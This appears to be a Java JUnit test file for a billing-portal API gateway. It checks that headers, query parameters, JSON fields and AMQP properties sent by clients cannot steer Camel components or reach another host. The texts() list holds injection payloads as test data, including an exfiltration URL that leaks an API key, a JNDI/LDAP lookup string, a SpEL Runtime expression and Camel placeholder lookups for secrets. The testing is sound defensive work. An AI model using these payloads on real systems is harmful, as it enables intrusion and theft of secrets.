package io.portico;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLEncoder;
import java.nio.channels.ServerSocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import jakarta.jms.Connection;
import jakarta.jms.ConnectionFactory;
import jakarta.jms.JMSException;
import jakarta.jms.Message;
import jakarta.jms.MessageConsumer;
import jakarta.jms.Session;

import org.apache.camel.CamelContext;
import org.apache.qpid.jms.JmsConnectionFactory;
import org.apache.qpid.proton.amqp.messaging.AmqpValue;
import org.apache.qpid.proton.amqp.messaging.ApplicationProperties;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.MethodSource;

import com.fasterxml.jackson.databind.ObjectMapper;

import io.micrometer.core.instrument.Meter;
import io.micrometer.core.instrument.MeterRegistry;
import io.portico.queue.RawAmqp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Nothing that a client sends steers a component: whatever names and texts come along, over HTTP and by the queue, each
 * vendor gets to the byte what it gets without them, once, and the answer has the same headers.
 */
class SteeringTest {
    private static final List<String> ACCOUNTS = RecordingVendor.ACCOUNTS;
    private static final String CREATE = "/v1/portal-sessions";
    private static final String JSON = "application/json";
    private static final String RETURN_URL = "https://app.example.com/account";
    /** Names in one request; fewer than the hundred headers, and fewer bytes than a target may have. */
    private static final int BATCH = 40;

    /** Headers that proxies, browsers and vendors give a meaning to, and the gateway does not. */
    private static final List<String> COMMON = List.of(
            "User-Agent",
            "Accept-Language",
            "Cookie",
            "Referer",
            "Origin",
            "Forwarded",
            "Via",
            "X-Forwarded-For",
            "X-Forwarded-Host",
            "X-Forwarded-Proto",
            "X-Forwarded-Prefix",
            "X-Original-URL",
            "X-Rewrite-URL",
            "X-HTTP-Method-Override",
            "X-Request-Id",
            "X-Correlation-Id",
            "traceparent",
            "tracestate",
            "baggage",
            "If-None-Match",
            "If-Match",
            "Range",
            "From",
            "Prefer",
            "Proxy-Authorization",
            "Idempotency-Key",
            "Stripe-Account",
            "Stripe-Context",
            "Stripe-Version",
            "customerId",
            "vendorOptions");

    private static RecordingVendor vendor;
    private static ServerSocketChannel stranger;
    private static RunningGateway gateway;
    private static int amqpPort;
    private static List<String> texts;
    private static List<String> names;
    private static final Map<String, String> UNPOISONED = new HashMap<>();
    private static final Map<String, List<String>> PLAIN_HEAD = new HashMap<>();

    @BeforeAll
    static void start(@TempDir Path data) throws IOException {
        vendor = new RecordingVendor();
        stranger = ServerSocketChannel.open().bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
        stranger.configureBlocking(false);
        texts = texts("127.0.0.1:" + ((InetSocketAddress) stranger.getLocalAddress()).getPort());
        names = ControlNames.inEverySpelling();
        amqpPort = RunningGateway.freePort();
        List<String> settings = new ArrayList<>(vendor.settings());
        settings.addAll(List.of(
                "--portico.amqp.port=" + amqpPort,
                "--portico.guard.minimum-calls=100000",
                "--portico.keys.failures-per-minute=0",
                "--spring.datasource.url=jdbc:h2:mem:steering"));
        gateway = RunningGateway.start(data, settings);
        for (String account : ACCOUNTS) {
            RawExchange answer = post(CREATE, JSON, Map.of(), body(account, Map.of()));
            assertThat(answer.status()).as(answer.everything()).isEqualTo(201);
            PLAIN_HEAD.put(account, fixed(answer));
            UNPOISONED.put(account, vendor.take().get(0));
        }
    }

    @AfterAll
    static void stop() throws IOException {
        gateway.close();
        vendor.close();
        stranger.close();
    }

    @BeforeEach
    void forget() {
        vendor.take();
        vendor.answerWith("HTTP/1.1 200 OK");
    }

    /** What would mean something to a component, a placeholder, an expression or a lookup. */
    private static List<String> texts(String stranger) {
        return List.of(
                "http://" + stranger + "/stolen?k={{apiKey}}",
                "{{env:PATH}}",
                "{{sys:user.home}}",
                "{{portico.vendors.stripe.properties.api-key}}",
                "${header.Authorization}",
                "${exchange}",
                "${variable.vendorEndpoint}",
                "$simple{camelContext.stop()}",
                "#{T(java.lang.Runtime).getRuntime()}",
                "${jndi:ldap://" + stranger + "/x}",
                "#bean:guardVendor",
                "ref:guardVendor",
                "RAW({{token}})",
                "direct:create-portal-session",
                "DELETE");
    }

    static Stream<String> accounts() {
        return ACCOUNTS.stream();
    }

    @Test
    void knowsTheNamesThatComponentsObey() {
        assertThat(ControlNames.all())
                .hasSizeGreaterThan(150)
                .contains("CamelHttpUri", "CamelHttpPath", "CamelHttpMethod", "CamelHttpRawQuery")
                .contains("CamelJmsDestinationName", "CamelJmsDestination", "CamelToEndpoint", "CamelFileName");
    }

    @ParameterizedTest
    @MethodSource("accounts")
    void obeysNoHeader(String account) throws IOException {
        for (List<String> some : batches(names)) {
            expectUnmoved(account, post(CREATE, JSON, poisoned(some), body(account, Map.of())), some);
        }
    }

    @ParameterizedTest
    @FieldSource("COMMON")
    void readsNoMeaningIntoTheTextOfAHeader(String name) throws IOException {
        for (String text : texts) {
            expectUnmoved("stripe", post(CREATE, JSON, Map.of(name, text), body("stripe", Map.of())), text);
        }
    }

    @ParameterizedTest
    @EnumSource
    void obeysNothingThatComesAlongInADialect(DialectSample dialect) throws IOException {
        RawExchange plain = post(dialect, "", Map.of());
        List<String> unpoisoned = vendor.take();
        assertThat(plain.status()).as(plain.everything()).isEqualTo(200);
        assertThat(unpoisoned).hasSize(1);

        List<String> all = new ArrayList<>(names);
        COMMON.stream()
                .filter(name -> !name.startsWith("Stripe-") && !name.equals("Idempotency-Key"))
                .forEach(all::add);
        for (List<String> some : batches(all)) {
            StringBuilder query = new StringBuilder("?");
            poisoned(some).forEach((name, text) -> query.append(encode(name))
                    .append('=')
                    .append(encode(text))
                    .append('&'));
            List<RawExchange> answers =
                    List.of(post(dialect, "", poisoned(some)), post(dialect, query.toString(), Map.of()));

            assertThat(answers).as("%s", some).allSatisfy(answer -> assertThat(fixed(answer))
                    .isEqualTo(fixed(plain)));
            assertThat(vendor.take()).as("%s", some).hasSize(2).containsOnly(unpoisoned.get(0));
        }
        assertNobodyElseWasCalled();
    }

    @Test
    void obeysNoQueryParameter() throws IOException {
        List<String> all = new ArrayList<>(names);
        all.addAll(COMMON);
        all.addAll(List.of("Authorization", "X-Api-Key", "Content-Type", "Host"));
        for (List<String> some : batches(all)) {
            StringBuilder query = new StringBuilder(CREATE).append('?');
            poisoned(some).forEach((name, text) -> query.append(encode(name))
                    .append('=')
                    .append(encode(text))
                    .append('&'));
            expectUnmoved("stripe", post(query.toString(), JSON, Map.of(), body("stripe", Map.of())), some);
        }
    }

    @Test
    void readsNoFormAndNoUnknownMember() throws IOException {
        for (List<String> some : batches(names)) {
            StringBuilder form = new StringBuilder("customerId=acme-stripe&returnUrl=" + encode(RETURN_URL));
            Map<String, Object> members = new LinkedHashMap<>(poisoned(some));
            members.forEach((name, text) ->
                    form.append('&').append(encode(name)).append('=').append(encode(text.toString())));

            assertThat(post(CREATE, "application/x-www-form-urlencoded", Map.of(), form.toString())
                            .status())
                    .isEqualTo(415);
            assertThat(post(CREATE, JSON, Map.of(), body("stripe", members)).status())
                    .isEqualTo(422);
            assertThat(post(CREATE, JSON, Map.of(), body("stripe", Map.of("vendorOptions", members)))
                            .status())
                    .isEqualTo(422);
            assertThat(vendor.take()).isEmpty();
        }
    }

    @Test
    void readsNoMeaningIntoTheTextOfAField() throws IOException {
        for (String field : List.of(
                "customerId",
                "customerSystem",
                "vendor",
                "account",
                "returnUrl",
                "intent",
                "intentFallback",
                "subscriptionId",
                "locale",
                "expiresIn")) {
            for (String text : texts) {
                RawExchange answer = post(CREATE, JSON, Map.of(), body("stripe", Map.of(field, text)));
                if (answer.status() == 201) {
                    assertThat(vendor.take()).as("%s: %s", field, text).containsExactly(UNPOISONED.get("stripe"));
                } else {
                    assertThat(answer.status()).as(answer.everything()).isBetween(400, 499);
                    assertThat(answer.everything()).doesNotContain(text.equals("DELETE") ? "DELETE " : text);
                    assertThat(vendor.take()).as("%s: %s", field, text).isEmpty();
                }
            }
        }
        assertNobodyElseWasCalled();
    }

    @Test
    void handsTextsOnAsTheyAre() throws IOException {
        // One that looks like a URL is held against the allow-list, as any URL of a request.
        for (String text : texts.stream().filter(each -> !each.contains("://")).toList()) {
            Map<String, Object> fields = Map.of(
                    "intent",
                    "cancel-subscription",
                    "subscriptionId",
                    text,
                    "vendorOptions",
                    Map.of("configuration", text));

            RawExchange answer = post(CREATE, JSON, Map.of(), body("stripe", fields));

            assertThat(answer.status()).as(answer.everything()).isEqualTo(201);
            assertThat(vendor.take()).singleElement().satisfies(request -> assertThat(request.split("&|\\r\\n\\r\\n"))
                    .contains("configuration=" + encode(text))
                    .contains("flow_data[subscription_cancel][subscription]=" + encode(text)));
        }
        assertNobodyElseWasCalled();
    }

    @ParameterizedTest
    @MethodSource("accounts")
    void handsAReturnUrlOnAsItIs(String account) throws IOException {
        if (account.equals("paddle")) {
            return; // It takes none.
        }
        for (String query :
                List.of("x=%7B%7Benv:PATH%7D%7D", "x=$%7Bheader.x%7D", "x=RAW(a)", "x=$simple(body)&y=%23x")) {
            String url = RETURN_URL + "?" + query;

            RawExchange answer = post(CREATE, JSON, Map.of(), body(account, Map.of("returnUrl", url)));

            assertThat(answer.status()).as(answer.everything()).isEqualTo(201);
            assertThat(vendor.take()).singleElement().satisfies(request -> assertThat(
                            request.contains(url) || request.contains(encode(url)))
                    .as(request)
                    .isTrue());
        }
    }

    @Test
    void obeysNoPropertyOfAnAmqpMessage() throws Exception {
        Connection connection =
                new JmsConnectionFactory("amqp://127.0.0.1:" + amqpPort).createConnection("acme", "acme");
        connection.start();
        try (connection;
                RawAmqp sender = RawAmqp.connect(amqpPort, "acme", "acme")) {
            Session session = connection.createSession(false, Session.AUTO_ACKNOWLEDGE);
            MessageConsumer replies = session.createConsumer(session.createQueue("portal-session.created"));
            sender.send(amqp(body("stripe", Map.of()), Map.of()));
            TreeSet<String> plain = reply(replies, List.of());
            vendor.take();
            // JMSReplyTo is another way to name a return address, which the next test is about.
            for (List<String> some : batches(
                    names.stream().filter(name -> !name.equals("JMSReplyTo")).toList())) {
                Map<String, Object> properties = new HashMap<>(poisoned(some));
                sender.send(amqp(body("stripe", Map.of()), properties));
                assertThat(reply(replies, some)).isEqualTo(plain);
                assertThat(vendor.take()).as("%s", some).containsExactly(UNPOISONED.get("stripe"));

                properties.putAll(Map.of("customerId", "acme-stripe", "returnUrl", RETURN_URL, "vendor", "stripe"));
                sender.send(amqp("", properties));
                assertThat(reply(replies, some)).isEqualTo(plain);
                assertThat(vendor.take()).as("%s", some).containsExactly(UNPOISONED.get("stripe"));
            }
        }
        assertNobodyElseWasCalled();
    }

    @Test
    void holdsAReturnAddressAgainstTheList_howeverItIsGiven() throws Exception {
        Connection connection =
                new JmsConnectionFactory("amqp://127.0.0.1:" + amqpPort).createConnection("acme", "acme");
        connection.start();
        try (connection;
                RawAmqp sender = RawAmqp.connect(amqpPort, "acme", "acme")) {
            Session session = connection.createSession(false, Session.AUTO_ACKNOWLEDGE);
            sender.send(amqp(body("stripe", Map.of()), Map.of("JMSReplyTo", "reply-of-a-stranger")));

            Message dead = session.createConsumer(session.createQueue("portal-session.create.dlq"))
                    .receive(10_000);

            assertThat(dead).isNotNull();
            assertThat(dead.getStringProperty("porticoCode")).isEqualTo("reply-target-not-allowed");
            assertThat(vendor.take()).isEmpty();
        }
    }

    @Test
    void obeysNoPropertyOfAMessageInTheBrokersOwnProtocol() throws Exception {
        Connection connection =
                gateway.context().getBean(ConnectionFactory.class).createConnection("acme", "acme");
        connection.start();
        try (connection) {
            Session session = connection.createSession(false, Session.AUTO_ACKNOWLEDGE);
            MessageConsumer replies = session.createConsumer(session.createQueue("portal-session.created"));
            for (List<String> some : batches(names.stream()
                    .filter(name -> name.matches("(?i)camel[a-z0-9]+"))
                    .toList())) {
                Message request = session.createTextMessage(body("stripe", Map.of()));
                for (var property : poisoned(some).entrySet()) {
                    request.setStringProperty(property.getKey(), property.getValue());
                }
                session.createProducer(session.createQueue("portal-session.create"))
                        .send(request);
                reply(replies, some);
                assertThat(vendor.take()).as("%s", some).containsExactly(UNPOISONED.get("stripe"));
            }
        }
        assertNobodyElseWasCalled();
    }

    @Test
    void growsByNothingThatARequestNames() throws Exception {
        // As many threads as there will be at any time: a worker may still be busy when its answer has arrived.
        ExecutorService many = Executors.newFixedThreadPool(8);
        List<Callable<Void>> first = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            String name = "warm-" + i;
            first.add(() -> {
                sendSomethingDistinct(name);
                return null;
            });
        }
        for (Future<Void> each : many.invokeAll(first)) {
            each.get();
        }
        many.shutdown();
        assertThat(many.awaitTermination(10, TimeUnit.SECONDS)).isTrue();
        CamelContext camel = gateway.context().getBean(CamelContext.class);
        MeterRegistry meters = gateway.context().getBean(MeterRegistry.class);
        int endpoints = camel.getEndpoints().size();
        int routes = camel.getRoutesSize();
        int transformers = camel.getTransformerRegistry().size();
        Set<Meter.Id> measured = ids(meters);
        int threads = threads().size();

        for (int i = 0; i < 300; i++) {
            sendSomethingDistinct("distinct-" + i);
        }

        assertThat(camel.getEndpoints()).hasSize(endpoints);
        assertThat(camel.getRoutesSize()).isEqualTo(routes);
        assertThat(camel.getTransformerRegistry()).hasSize(transformers);
        assertThat(ids(meters)).isEqualTo(measured);
        await().atMost(Duration.ofSeconds(90))
                .untilAsserted(() -> assertThat(threads()).hasSizeLessThanOrEqualTo(threads));
    }

    /** But for those of the vendor, one for each connection, and the pools of the broker, which no request has a part in. */
    private static List<String> threads() {
        return Thread.getAllStackTraces().keySet().stream()
                .map(Thread::getName)
                .filter(name -> !name.startsWith("pool-") && !name.contains("(ActiveMQ-"))
                .sorted()
                .toList();
    }

    /** But for those of the JVM, which come with its first collections. */
    private static Set<Meter.Id> ids(MeterRegistry meters) {
        return meters.getMeters().stream()
                .map(Meter::getId)
                .filter(id -> !id.getName().startsWith("jvm."))
                .collect(Collectors.toSet());
    }

    private static void sendSomethingDistinct(String name) throws IOException {
        post(CREATE, JSON, Map.of("X-" + name, name), body("stripe", Map.of()));
        post(CREATE, JSON, Map.of(), body("stripe", Map.of("customerId", name)));
        post(CREATE, JSON, Map.of(), body("stripe", Map.of("vendor", name)));
        post(CREATE, JSON, Map.of(), body("stripe", Map.of("account", name)));
        post(CREATE, JSON, Map.of("Authorization", "Bearer " + name), body("stripe", Map.of()));
        post("/v1/" + name, JSON, Map.of(), "{}");
    }

    @Test
    void givesNoCallersCookieToTheNext() throws IOException {
        vendor.answerWith("HTTP/1.1 200 OK\r\nSet-Cookie: sid=one; Path=/\r\nSet-Cookie: other=two; Path=/v1");
        for (String account : ACCOUNTS) {
            RawExchange answer = post(CREATE, JSON, Map.of(), body(account, Map.of()));
            assertThat(answer.head()).noneMatch(line -> line.contains("sid=one"));
            post(CREATE, JSON, Map.of(), body(account, Map.of()));

            assertThat(vendor.take()).containsExactly(UNPOISONED.get(account), UNPOISONED.get(account));
        }
        post(
                CREATE,
                JSON,
                Map.of("Authorization", "Bearer pk_sandbox_globex"),
                "{\"customerId\":\"globex-stripe\",\"returnUrl\":\"https://app.globex.example/\"}");
        assertThat(vendor.take()).singleElement().satisfies(request -> assertThat(request)
                .doesNotContainIgnoringCase("cookie"));
    }

    @Test
    void sendsOnce_whateverTheVendorAsksFor() throws IOException {
        for (String answer : List.of(
                "307 Temporary Redirect\r\nLocation: /elsewhere",
                "308 Permanent Redirect\r\nLocation: /elsewhere",
                "301 Moved\r\nLocation: /elsewhere",
                "302 Found\r\nLocation: /elsewhere",
                "303 See Other\r\nLocation: /elsewhere",
                "401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"",
                "503 Unavailable\r\nRetry-After: 0",
                "429 Slow\r\nRetry-After: 1")) {
            vendor.answerWith("HTTP/1.1 " + answer);

            RawExchange exchange = post(CREATE, JSON, Map.of(), body("ampersand", Map.of()));

            assertThat(exchange.status()).as(answer).isBetween(502, 503);
            assertThat(vendor.take()).as(answer).containsExactly(UNPOISONED.get("ampersand"));
        }
    }

    private static void expectUnmoved(String account, RawExchange answer, Object poison) throws IOException {
        assertThat(answer.status()).as("%s: %s", poison, answer.everything()).isEqualTo(201);
        assertThat(vendor.take()).as("%s", poison).containsExactly(UNPOISONED.get(account));
        assertThat(fixed(answer)).as("%s", poison).isEqualTo(PLAIN_HEAD.get(account));
        assertNobodyElseWasCalled();
    }

    private static void assertNobodyElseWasCalled() throws IOException {
        assertThat(stranger.accept()).as("a call to where the request pointed").isNull();
    }

    /** An answer's head without what differs from answer to answer. */
    private static List<String> fixed(RawExchange answer) {
        return answer.head().stream()
                .map(line -> line.replaceFirst("^(Date|X-Request-Id|Request-Id|Location|Content-Length): .*", "$1"))
                .toList();
    }

    private static TreeSet<String> reply(MessageConsumer replies, List<String> poison) throws JMSException {
        Message reply = replies.receive(10_000);
        assertThat(reply).as("an answer to %s", poison).isNotNull();
        assertThat(reply.getIntProperty("porticoStatus")).as("%s", poison).isEqualTo(201);
        TreeSet<String> properties = new TreeSet<>();
        Collections.list(reply.getPropertyNames()).forEach(name -> properties.add(name.toString()));
        return properties;
    }

    private static org.apache.qpid.proton.message.Message amqp(String body, Map<String, Object> properties) {
        var message = RawAmqp.message(new AmqpValue(body));
        message.setApplicationProperties(new ApplicationProperties(properties));
        return message;
    }

    private static Map<String, String> poisoned(List<String> some) {
        Map<String, String> poisoned = new LinkedHashMap<>();
        for (String name : some) {
            poisoned.put(name, texts.get(Math.floorMod(name.hashCode() + poisoned.size(), texts.size())));
        }
        return poisoned;
    }

    private static List<List<String>> batches(List<String> all) {
        List<List<String>> batches = new ArrayList<>();
        for (int i = 0; i < all.size(); i += BATCH) {
            batches.add(all.subList(i, Math.min(all.size(), i + BATCH)));
        }
        return batches;
    }

    private static String body(String account, Map<String, ?> more) {
        Map<String, Object> fields = new LinkedHashMap<>();
        fields.put("customerId", "acme-" + account.replace("-acme", ""));
        fields.put("returnUrl", RETURN_URL);
        fields.putAll(more);
        return new ObjectMapper().valueToTree(fields).toString();
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private static RawExchange post(DialectSample dialect, String query, Map<String, String> headers)
            throws IOException {
        return post(dialect.target() + query, dialect.type(), headers, dialect.body(RETURN_URL));
    }

    private static RawExchange post(String target, String type, Map<String, String> headers, String body)
            throws IOException {
        StringBuilder request = new StringBuilder("POST " + target + " HTTP/1.1\r\nHost: 127.0.0.1\r\n");
        Map<String, String> all = new LinkedHashMap<>(Map.of("Authorization", "Bearer pk_sandbox_acme"));
        all.putAll(headers);
        all.forEach(
                (name, text) -> request.append(name).append(": ").append(text).append("\r\n"));
        request.append("Content-Type: ").append(type).append("\r\nConnection: close\r\nContent-Length: ");
        request.append(body.length()).append("\r\n\r\n").append(body);
        int port = gateway.port();
        return RawExchange.send(port, request.toString().getBytes(StandardCharsets.ISO_8859_1), true);
    }
}
